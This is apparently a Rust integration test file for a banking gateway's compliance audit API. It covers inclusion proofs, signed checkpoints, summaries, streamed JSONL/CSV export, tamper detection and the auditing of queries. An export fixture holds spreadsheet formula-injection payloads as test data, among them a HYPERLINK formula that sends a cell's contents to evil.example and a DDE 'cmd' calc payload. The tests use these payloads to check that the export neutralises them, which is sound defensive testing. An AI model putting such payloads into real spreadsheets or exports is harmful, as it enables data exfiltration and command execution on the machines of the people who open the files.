//! The compliance API beyond `/v1/audit/events`: one event with its inclusion proof, signed
//! checkpoints, the daily summary, the streamed export (JSON Lines and CSV) and whole-log
//! verification; each only for compliance clients, and each query itself audited.

use std::collections::BTreeSet;

use bankgate::audit::{Action, Decision, Event, Filter, Record, VerifyingKeys, chain_hash};
use bankgate::demo::{Answer, account_information};
use bankgate::model::Scope;
use chrono::{DateTime, Duration, SecondsFormat, Utc};
use serde_json::{Value, json};

use crate::support::{StoreKind, TestGateway};
use bankgate::model::WireName;

on_both_stores!(
    compliance_endpoints_refuse_platforms,
    an_event_comes_with_its_inclusion_proof_and_checkpoint,
    checkpoints_page_by_position,
    summary_counts_what_was_recorded,
    export_streams_every_event_as_jsonl_and_csv,
    verify_reports_an_intact_log,
    every_compliance_query_is_audited,
);

/// The new compliance endpoints.
const ENDPOINTS: &[&str] = &[
    "/v1/audit/events/1",
    "/v1/audit/checkpoints",
    "/v1/audit/summary",
    "/v1/audit/export?format=jsonl",
    "/v1/audit/export?format=csv",
    "/v1/audit/verify",
];

/// A GET by the compliance client, answered whole.
async fn get(gateway: &TestGateway, token: &str, path: &str) -> Answer {
    gateway
        .compliance
        .send(reqwest::Method::GET, path, Some(token), None)
        .await
        .unwrap_or_else(|error| panic!("GET {path}: {error}"))
}

/// Asserts `answer` is an RFC 9457 problem with `status`.
#[track_caller]
fn assert_problem(answer: &Answer, status: u16, what: &str) {
    let body = answer.json();
    assert_eq!(answer.status, status, "{what}: {body}");
    assert_eq!(
        answer.headers["content-type"], "application/problem+json",
        "{what}"
    );
    assert_eq!(body["status"], status, "{what}: {body}");
}

/// Every event `filter` selects, read from the store a page at a time.
async fn stored(gateway: &TestGateway, filter: Filter) -> Vec<Record> {
    let mut all = Vec::new();
    loop {
        let page = gateway
            .app
            .auditor
            .events(&Filter {
                after: all
                    .last()
                    .map(|record: &Record| record.position)
                    .or(filter.after),
                limit: Some(1000),
                ..filter.clone()
            })
            .await
            .expect("audit events");
        if page.is_empty() {
            return all;
        }
        all.extend(page);
    }
}

async fn compliance_endpoints_refuse_platforms(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let detail = account_information(
        "demo-bank",
        "balance-alerts",
        &[Scope::Accounts, Scope::Balances],
        "u-c1",
    );
    let (consent_token, _) = gateway.platform.connect(&detail).await.unwrap();
    let management = gateway.platform.client_credentials().await.unwrap();
    for token in [consent_token.access_token.as_str(), management.as_str()] {
        for path in ENDPOINTS {
            let answer = gateway
                .platform
                .send(reqwest::Method::GET, path, Some(token), None)
                .await
                .unwrap();
            assert_problem(&answer, 403, path);
            assert!(
                answer.json()["type"]
                    .as_str()
                    .unwrap()
                    .ends_with("/forbidden")
            );
        }
    }
    // Refused before the query is read: no 400 for a bad one either.
    let answer = gateway
        .platform
        .send(
            reqwest::Method::GET,
            "/v1/audit/export?format=xml",
            Some(&management),
            None,
        )
        .await
        .unwrap();
    assert_problem(&answer, 403, "bad export query");
    // Without a token: 401.
    let response = reqwest::get(format!("{}/v1/audit/verify", gateway.base))
        .await
        .unwrap();
    assert_eq!(response.status(), 401);

    // Every refused attempt is on the record, as a denied audit query by the platform.
    let token = gateway.compliance.client_credentials().await.unwrap();
    let platform_id = gateway.platform.client_id.clone();
    let denied = get(
        &gateway,
        &token,
        "/v1/audit/events?action=audit_queried&decision=deny&limit=1000",
    )
    .await
    .json();
    let denied = denied["events"].as_array().unwrap();
    assert_eq!(denied.len(), 2 * ENDPOINTS.len() + 1, "{denied:?}");
    for event in denied {
        assert_eq!(event["actor"], platform_id.as_str(), "{event}");
        let reason = event["reason"].as_str().unwrap();
        assert!(
            reason.starts_with("the audit log is for compliance clients: /v1/audit/"),
            "{reason}"
        );
    }
}

async fn an_event_comes_with_its_inclusion_proof_and_checkpoint(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    let listed = get(&gateway, &token, "/v1/audit/events?limit=3")
        .await
        .json();
    let third = listed["events"][2].clone();
    assert_eq!(third["position"], 3, "{listed}");

    // No checkpoint yet at or after 3 (the test gateway signs one a minute at the earliest).
    let answer = get(&gateway, &token, "/v1/audit/events/3").await;
    assert_eq!(answer.status, 200);
    let body = answer.json();
    assert_eq!(
        body["event"], third,
        "the event as /v1/audit/events lists it"
    );
    let inclusion = &body["inclusion"];
    assert_eq!(inclusion["position"], 3);
    assert_eq!(inclusion["prev_hash"], third["prev_hash"]);
    assert_eq!(inclusion["hash"], third["hash"]);
    assert_eq!(
        inclusion["verify"],
        "h_n = SHA-256(prev_hash ‖ n as 8 big-endian bytes ‖ canonical)"
    );
    // The proof checks out from what the answer says alone.
    let hex32 = |value: &Value| -> [u8; 32] {
        hex::decode(value.as_str().unwrap())
            .unwrap()
            .try_into()
            .unwrap()
    };
    let canonical = inclusion["canonical"].as_str().unwrap();
    assert_eq!(
        chain_hash(&hex32(&inclusion["prev_hash"]), 3, canonical.as_bytes()),
        hex32(&inclusion["hash"])
    );
    let event: Event = serde_json::from_str(canonical).unwrap();
    let record: Record = serde_json::from_value(third.clone()).unwrap();
    assert_eq!(event, record.event, "the canonical bytes are the event");
    let no_checkpoint = inclusion["checkpoint"].is_null();

    // A checkpoint at the head covers every event before it.
    let signed = gateway
        .app
        .auditor
        .checkpoint_now()
        .await
        .unwrap()
        .expect("a checkpoint at the head");
    let body = get(&gateway, &token, "/v1/audit/events/3").await.json();
    let checkpoint = &body["inclusion"]["checkpoint"];
    if no_checkpoint {
        assert_eq!(checkpoint["position"], signed.position);
    }
    let checkpoint: bankgate::audit::Checkpoint =
        serde_json::from_value(checkpoint.clone()).expect("a checkpoint");
    assert!(checkpoint.position >= 3);
    let keys = VerifyingKeys::from_jwks(&gateway.app.tokens.jwks().to_string()).unwrap();
    keys.check(&checkpoint)
        .expect("signed by a key of the gateway's JWKS");
    // It is the first at or after 3.
    let first = gateway
        .app
        .store
        .audit_checkpoints(Some(2), 1)
        .await
        .unwrap();
    assert_eq!(first, vec![checkpoint]);

    // No such position: 404; not a number: 400.
    let head = gateway.app.store.audit_head().await.unwrap().unwrap().0;
    for missing in [head + 1000, 0, -1] {
        let answer = get(&gateway, &token, &format!("/v1/audit/events/{missing}")).await;
        assert_problem(&answer, 404, &missing.to_string());
    }
    for bad in ["abc", "1.5", "99999999999999999999"] {
        let answer = get(&gateway, &token, &format!("/v1/audit/events/{bad}")).await;
        assert_problem(&answer, 400, bad);
    }
}

async fn checkpoints_page_by_position(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    // Three checkpoints, each at a new head (every query adds an event).
    for _ in 0..3 {
        get(&gateway, &token, "/v1/audit/events?limit=1").await;
        gateway.app.auditor.checkpoint_now().await.unwrap();
    }
    let all = gateway
        .app
        .store
        .audit_checkpoints(None, 1000)
        .await
        .unwrap();
    assert!(all.len() >= 3, "{all:?}");

    let first = get(&gateway, &token, "/v1/audit/checkpoints?limit=2")
        .await
        .json();
    assert_eq!(
        first["checkpoints"],
        serde_json::to_value(&all[..2]).unwrap()
    );
    let next = first["next_after"].as_i64().expect("more pages");
    assert_eq!(next, all[1].position);
    let rest = get(
        &gateway,
        &token,
        &format!("/v1/audit/checkpoints?after={next}&limit=1000"),
    )
    .await
    .json();
    assert_eq!(
        rest["checkpoints"],
        serde_json::to_value(&all[2..]).unwrap()
    );
    assert!(rest.get("next_after").is_none(), "{rest}");
    for key in ["position", "hash", "time", "kid", "jws"] {
        assert!(first["checkpoints"][0].get(key).is_some(), "{key}: {first}");
    }
    for bad in ["after=x", "limit=-1", "colour=red"] {
        let answer = get(&gateway, &token, &format!("/v1/audit/checkpoints?{bad}")).await;
        assert_problem(&answer, 400, bad);
    }
}

/// `time` as a query parameter.
fn param(time: DateTime<Utc>) -> String {
    time.to_rfc3339_opts(SecondsFormat::Micros, true)
}

/// Events of the summary test: days ago, hour, platform, purpose, decision, how many.
type Recorded = (
    i64,
    i64,
    &'static str,
    Option<&'static str>,
    Decision,
    usize,
);

async fn summary_counts_what_was_recorded(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    let today = Utc::now()
        .date_naive()
        .and_hms_opt(0, 0, 0)
        .unwrap()
        .and_utc();
    let day = |days_ago: i64| today - Duration::days(days_ago);
    let recorded: &[Recorded] = &[
        (
            3,
            1,
            "summary-a",
            Some("balance-alerts"),
            Decision::Allow,
            4,
        ),
        (3, 2, "summary-a", Some("balance-alerts"), Decision::Deny, 2),
        (3, 23, "summary-b", None, Decision::Error, 1),
        (2, 0, "summary-a", Some("fraud-alerts"), Decision::Allow, 3),
        (
            1,
            12,
            "summary-a",
            Some("balance-alerts"),
            Decision::Allow,
            5,
        ),
        (
            40,
            12,
            "summary-a",
            Some("balance-alerts"),
            Decision::Allow,
            7,
        ),
    ];
    let mut records = Vec::new();
    for &(days_ago, hour, platform, purpose, decision, n) in recorded {
        for _ in 0..n {
            let event = Event {
                time: day(days_ago) + Duration::hours(hour),
                platform: Some(platform.to_owned()),
                purpose: purpose.map(str::to_owned),
                bank: Some("demo-bank".to_owned()),
                ..Event::new(Action::DataAccess, platform, decision)
            };
            records.push(gateway.app.auditor.record(event));
        }
    }
    for record in futures_util::future::join_all(records).await {
        record.expect("recorded");
    }
    let row = |days_ago: i64, platform: &str, purpose: Option<&str>, decision: &str, count| {
        json!({
            "day": day(days_ago).format("%Y-%m-%d").to_string(),
            "platform": platform,
            "purpose": purpose,
            "decision": decision,
            "count": count,
        })
    };

    // The last 30 days by default: the event 40 days ago is not counted.
    let body = get(&gateway, &token, "/v1/audit/summary?platform=summary-a")
        .await
        .json();
    assert_eq!(
        body["rows"],
        json!([
            row(3, "summary-a", Some("balance-alerts"), "allow", 4),
            row(3, "summary-a", Some("balance-alerts"), "deny", 2),
            row(2, "summary-a", Some("fraud-alerts"), "allow", 3),
            row(1, "summary-a", Some("balance-alerts"), "allow", 5),
        ]),
        "{body}"
    );
    assert!(body["to"].is_null(), "{body}");
    let from: DateTime<Utc> = body["from"].as_str().unwrap().parse().unwrap();
    assert!((Utc::now() - Duration::days(30) - from).num_minutes().abs() < 5);

    // An explicit range, [from, to), and the other filters.
    let path = format!(
        "/v1/audit/summary?from={}&to={}&bank=demo-bank",
        param(day(3) + Duration::hours(2)),
        param(day(2) + Duration::hours(1)),
    );
    let body = get(&gateway, &token, &path).await.json();
    assert_eq!(
        body["rows"],
        json!([
            row(3, "summary-a", Some("balance-alerts"), "deny", 2),
            row(3, "summary-b", None, "error", 1),
            row(2, "summary-a", Some("fraud-alerts"), "allow", 3),
        ]),
        "{body}"
    );
    assert_eq!(
        body["to"]
            .as_str()
            .unwrap()
            .parse::<DateTime<Utc>>()
            .unwrap(),
        day(2) + Duration::hours(1)
    );
    let path = format!(
        "/v1/audit/summary?from={}&purpose=balance-alerts&platform=summary-a",
        param(day(45))
    );
    let body = get(&gateway, &token, &path).await.json();
    let counts: Vec<i64> = body["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["count"].as_i64().unwrap())
        .collect();
    assert_eq!(counts, vec![7, 4, 2, 5], "{body}");

    // The range is bounded and must make sense.
    let too_long = format!("/v1/audit/summary?from={}", param(day(400)));
    let answer = get(&gateway, &token, &too_long).await;
    assert_problem(&answer, 400, "more than 366 days");
    assert!(
        answer.json()["detail"]
            .as_str()
            .unwrap()
            .contains("at most 366 days")
    );
    let backwards = format!(
        "/v1/audit/summary?from={}&to={}",
        param(day(1)),
        param(day(2))
    );
    assert_problem(
        &get(&gateway, &token, &backwards).await,
        400,
        "to before from",
    );
    for bad in ["from=yesterday", "decision=allow"] {
        let answer = get(&gateway, &token, &format!("/v1/audit/summary?{bad}")).await;
        assert_problem(&answer, 400, bad);
    }
}

/// How many events the export test writes: more than one page of the store.
const BULK: usize = 1500;

/// The i-th event of the export fixture, with text CSV must quote.
fn bulk_event(i: usize) -> Event {
    Event {
        platform: Some("bulk-app".to_owned()),
        bank: Some(["demo-bank", "stet-bank"][i % 2].to_owned()),
        consent: Some(format!("c-{}", i % 7)),
        user_ref: Some(format!("u-{}", i % 3)),
        purpose: Some("balance-alerts".to_owned()),
        policy_hash: Some("sha256:abc".to_owned()),
        categories: vec!["accounts".to_owned(), "balances".to_owned()],
        fields: if i.is_multiple_of(5) {
            Vec::new()
        } else {
            vec!["id".to_owned(), "amount".to_owned()]
        },
        n_records: i as u32,
        reason: match i % 8 {
            0 => None,
            1 => Some(format!("policy \"balance-alerts\", rule {i}")),
            2 => Some("two\r\nlines, and a comma".to_owned()),
            // What a spreadsheet would evaluate, and a leading quote.
            3 => Some("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_owned()),
            4 => Some(["+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)"][i % 3].to_owned()),
            5 => Some(["\tx", "\rx", "'quoted"][i % 3].to_owned()),
            _ => Some("plain".to_owned()),
        },
        request_id: Some(format!("req-{i}")),
        ..Event::new(
            Action::DataAccess,
            "bulk-app",
            [Decision::Allow, Decision::Deny, Decision::Error][i % 3],
        )
    }
}

/// Parses RFC 4180 CSV (CRLF line ends, fields quoted with doubled quotes inside).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                _ => field.push(c),
            }
            continue;
        }
        match c {
            '"' => {
                assert!(field.is_empty(), "a quote inside an unquoted field");
                quoted = true;
            }
            ',' => row.push(std::mem::take(&mut field)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "rows end with CRLF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            '\n' => panic!("a bare LF outside quotes"),
            _ => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "the last row ends with CRLF"
    );
    rows
}

/// A CSV cell's value: the export puts a `'` before a value that starts with a character a
/// spreadsheet would evaluate (or with `'`); no cell starts with one of those bare.
fn csv_value(cell: &str) -> &str {
    const ESCAPED: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
    match cell.strip_prefix('\'') {
        Some(value) if value.starts_with(ESCAPED) => value,
        _ => {
            assert!(!cell.starts_with(ESCAPED), "{cell:?} is not neutralised");
            cell
        }
    }
}

/// A CSV row of the export back as a record.
fn csv_record(header: &[String], row: &[String]) -> Record {
    assert_eq!(row.len(), header.len(), "{row:?}");
    let column = |name: &str| -> &str {
        let index = header.iter().position(|column| column == name).unwrap();
        csv_value(&row[index])
    };
    let optional = |name: &str| Some(column(name).to_owned()).filter(|value| !value.is_empty());
    let list = |name: &str| -> Vec<String> {
        match column(name) {
            "" => Vec::new(),
            joined => joined.split(';').map(str::to_owned).collect(),
        }
    };
    let hash = |name: &str| -> [u8; 32] { hex::decode(column(name)).unwrap().try_into().unwrap() };
    Record {
        position: column("position").parse().unwrap(),
        prev_hash: hash("prev_hash"),
        hash: hash("hash"),
        event: Event {
            id: column("id").to_owned(),
            time: column("time").parse().unwrap(),
            actor: column("actor").to_owned(),
            action: Action::parse(column("action")).unwrap(),
            platform: optional("platform"),
            bank: optional("bank"),
            consent: optional("consent"),
            user_ref: optional("user_ref"),
            purpose: optional("purpose"),
            policy_hash: optional("policy_hash"),
            categories: list("categories"),
            fields: list("fields"),
            n_records: column("n_records").parse().unwrap(),
            decision: Decision::parse(column("decision")).unwrap(),
            reason: optional("reason"),
            request_id: optional("request_id"),
        },
    }
}

/// The event lines of a JSON Lines export, after checking that it ends with the trailer that
/// says it is complete and counts them.
fn jsonl_events(answer: &Answer) -> Vec<&str> {
    let text = std::str::from_utf8(&answer.body).unwrap();
    assert!(text.ends_with('\n'));
    let mut lines: Vec<&str> = text.lines().collect();
    let trailer: Value = serde_json::from_str(lines.pop().expect("a trailer")).unwrap();
    assert_eq!(
        trailer,
        json!({"complete": true, "n_events": lines.len()}),
        "the last line"
    );
    lines
}

async fn export_streams_every_event_as_jsonl_and_csv(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let recorded = futures_util::future::join_all(
        (0..BULK).map(|i| gateway.app.auditor.record(bulk_event(i))),
    )
    .await;
    assert!(recorded.iter().all(Result::is_ok));
    let bulk = stored(
        &gateway,
        Filter {
            platform: Some("bulk-app".to_owned()),
            ..Filter::default()
        },
    )
    .await;
    assert_eq!(bulk.len(), BULK);
    let token = gateway.compliance.client_credentials().await.unwrap();

    // JSON Lines: one record per line, exactly as /v1/audit/events gives it.
    let answer = get(
        &gateway,
        &token,
        "/v1/audit/export?format=jsonl&platform=bulk-app",
    )
    .await;
    assert_eq!(answer.status, 200);
    assert_eq!(answer.headers["content-type"], "application/x-ndjson");
    assert_eq!(
        answer.headers["content-disposition"],
        "attachment; filename=\"audit-export.jsonl\""
    );
    assert!(
        answer.headers.get("content-length").is_none(),
        "streamed, not buffered"
    );
    let lines = jsonl_events(&answer);
    assert_eq!(lines.len(), BULK);
    for (line, record) in lines.iter().zip(&bulk) {
        assert_eq!(*line, serde_json::to_string(record).unwrap());
    }
    let (_, listed) = gateway
        .compliance
        .get(&token, "/v1/audit/events?platform=bulk-app&limit=2")
        .await
        .unwrap();
    assert_eq!(
        serde_json::from_str::<Value>(lines[1]).unwrap(),
        listed["events"][1]
    );

    // CSV: a header and one row per event, which read back to the records.
    let answer = get(
        &gateway,
        &token,
        "/v1/audit/export?format=csv&platform=bulk-app",
    )
    .await;
    assert_eq!(answer.status, 200);
    assert_eq!(answer.headers["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        answer.headers["content-disposition"],
        "attachment; filename=\"audit-export.csv\""
    );
    let rows = parse_csv(std::str::from_utf8(&answer.body).unwrap());
    assert_eq!(
        rows[0].join(","),
        "position,id,time,actor,action,platform,bank,consent,user_ref,purpose,policy_hash,\
         categories,fields,n_records,decision,reason,request_id,prev_hash,hash"
    );
    // ...then the trailer that says the export is complete, as wide as the header.
    assert_eq!(rows.len(), BULK + 2);
    let trailer = &rows[BULK + 1];
    assert_eq!(trailer[..2], ["#complete".to_owned(), BULK.to_string()]);
    assert_eq!(trailer.len(), rows[0].len());
    assert!(trailer[2..].iter().all(String::is_empty), "{trailer:?}");
    for (row, record) in rows[1..=BULK].iter().zip(&bulk) {
        assert_eq!(&csv_record(&rows[0], row), record);
    }
    // The formula reached the file as text.
    let text = std::str::from_utf8(&answer.body).unwrap();
    assert!(
        text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","),
        "{}",
        &text[..2000]
    );

    // Filters and keyset start apply as in /v1/audit/events.
    let after = bulk[BULK - 10].position;
    let path = format!("/v1/audit/export?platform=bulk-app&decision=deny&after={after}");
    let answer = get(&gateway, &token, &path).await;
    let positions: Vec<i64> = jsonl_events(&answer)
        .iter()
        .map(|line| {
            serde_json::from_str::<Value>(line).unwrap()["position"]
                .as_i64()
                .unwrap()
        })
        .collect();
    let expected: Vec<i64> = bulk
        .iter()
        .filter(|record| record.position > after && record.event.decision == Decision::Deny)
        .map(|record| record.position)
        .collect();
    assert_eq!(positions, expected);

    // Unfiltered: the whole log up to the export's own audit record, which comes next.
    let answer = get(&gateway, &token, "/v1/audit/export").await;
    assert_eq!(answer.headers["content-type"], "application/x-ndjson");
    let exported: Vec<Record> = jsonl_events(&answer)
        .iter()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let positions: Vec<i64> = exported.iter().map(|record| record.position).collect();
    assert_eq!(positions, (1..=exported.len() as i64).collect::<Vec<_>>());
    assert!(exported.len() > BULK);
    let next = gateway
        .app
        .auditor
        .events(&Filter {
            after: Some(exported.len() as i64),
            limit: Some(1),
            ..Filter::default()
        })
        .await
        .unwrap();
    let own = &next[0].event;
    assert_eq!(own.action, Action::AuditQueried);
    let reason: Value = serde_json::from_str(own.reason.as_deref().unwrap()).unwrap();
    assert_eq!(reason["query"], "export");
    assert_eq!(reason["format"], "jsonl");

    // Unknown formats and a limit are refused.
    for bad in ["format=xml", "format=csv&limit=10", "decision=maybe"] {
        let answer = get(&gateway, &token, &format!("/v1/audit/export?{bad}")).await;
        assert_problem(&answer, 400, bad);
    }
}

async fn verify_reports_an_intact_log(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    gateway.app.auditor.checkpoint_now().await.unwrap();
    let (head, hash) = gateway.app.store.audit_head().await.unwrap().unwrap();
    let answer = get(&gateway, &token, "/v1/audit/verify").await;
    assert_eq!(answer.status, 200);
    let body = answer.json();
    assert_eq!(body["ok"], true, "{body}");
    assert!(body["first_broken"].is_null(), "{body}");
    assert!(body["checkpoints_checked"].as_u64().unwrap() >= 1, "{body}");
    // Everything up to the head when it ran (the query's own record comes after it).
    assert_eq!(body["head"]["position"], head, "{body}");
    assert_eq!(body["head"]["hash"], hex::encode(hash), "{body}");
    assert_eq!(body["events_checked"], head, "{body}");
}

/// A row edited with SQL by a superuser is found at its position.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgres_verify_pinpoints_a_row_edited_with_sql() {
    let gateway = TestGateway::start(StoreKind::Postgres).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    let answer = get(&gateway, &token, "/v1/audit/verify").await;
    assert_eq!(answer.json()["ok"], true, "{}", answer.json());

    let bankgate::config::StoreConfig::Postgres { url, .. } = &gateway.app.config.store else {
        unreachable!("a PostgreSQL gateway");
    };
    let admin = crate::support::pg::connect(url).await;
    // Event and typed column changed alike: only the hash can tell.
    admin
        .batch_execute(
            "SET session_replication_role = replica;
             UPDATE audit_events SET
                 actor = 'someone-else',
                 canonical = convert_to(
                     regexp_replace(convert_from(canonical, 'UTF8'),
                                    '\"actor\":\"[^\"]*\"', '\"actor\":\"someone-else\"'),
                     'UTF8')
             WHERE position = 3",
        )
        .await
        .expect("tamper");

    let answer = get(&gateway, &token, "/v1/audit/verify").await;
    assert_eq!(
        answer.status, 200,
        "a broken log is a finding, not an error"
    );
    let body = answer.json();
    assert_eq!(body["ok"], false, "{body}");
    assert_eq!(body["first_broken"]["position"], 3, "{body}");
    assert!(
        body["first_broken"]["reason"]
            .as_str()
            .unwrap()
            .contains("does not match its stored event bytes"),
        "{body}"
    );
    assert_eq!(body["events_checked"], 2, "{body}");
    assert_eq!(body["head"]["position"], 2, "{body}");
}

async fn every_compliance_query_is_audited(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let token = gateway.compliance.client_credentials().await.unwrap();
    for path in [
        "/v1/audit/events?limit=1&user_ref=u-secret",
        "/v1/audit/events/1",
        "/v1/audit/events/999999",
        "/v1/audit/checkpoints",
        "/v1/audit/summary?platform=messenger",
        "/v1/audit/export?format=csv&user_ref=u-secret",
        "/v1/audit/verify",
    ] {
        let answer = get(&gateway, &token, path).await;
        assert!(
            matches!(answer.status, 200 | 404),
            "{path}: {}",
            answer.status
        );
    }
    let queried = stored(
        &gateway,
        Filter {
            action: Some(Action::AuditQueried),
            ..Filter::default()
        },
    )
    .await;
    let mut asked = BTreeSet::new();
    for record in &queried {
        let event = &record.event;
        assert_eq!(event.actor, "compliance-office");
        assert_eq!(event.decision, Decision::Allow);
        assert!(event.request_id.as_deref().is_some_and(|id| !id.is_empty()));
        let reason = event.reason.as_deref().unwrap();
        // User references are written down pseudonymised only.
        assert!(!reason.contains("u-secret"), "{reason}");
        let reason: Value = serde_json::from_str(reason).unwrap();
        asked.insert(reason["query"].as_str().unwrap().to_owned());
    }
    assert_eq!(
        asked,
        [
            "checkpoints",
            "event",
            "events",
            "export",
            "summary",
            "verify"
        ]
        .map(str::to_owned)
        .into()
    );
    assert_eq!(queried.len(), 7);
    let pseudonym = gateway.app.auditor.pseudonym("", "u-secret").await.unwrap();
    assert!(
        queried[0]
            .event
            .reason
            .as_deref()
            .unwrap()
            .contains(&pseudonym)
    );
}
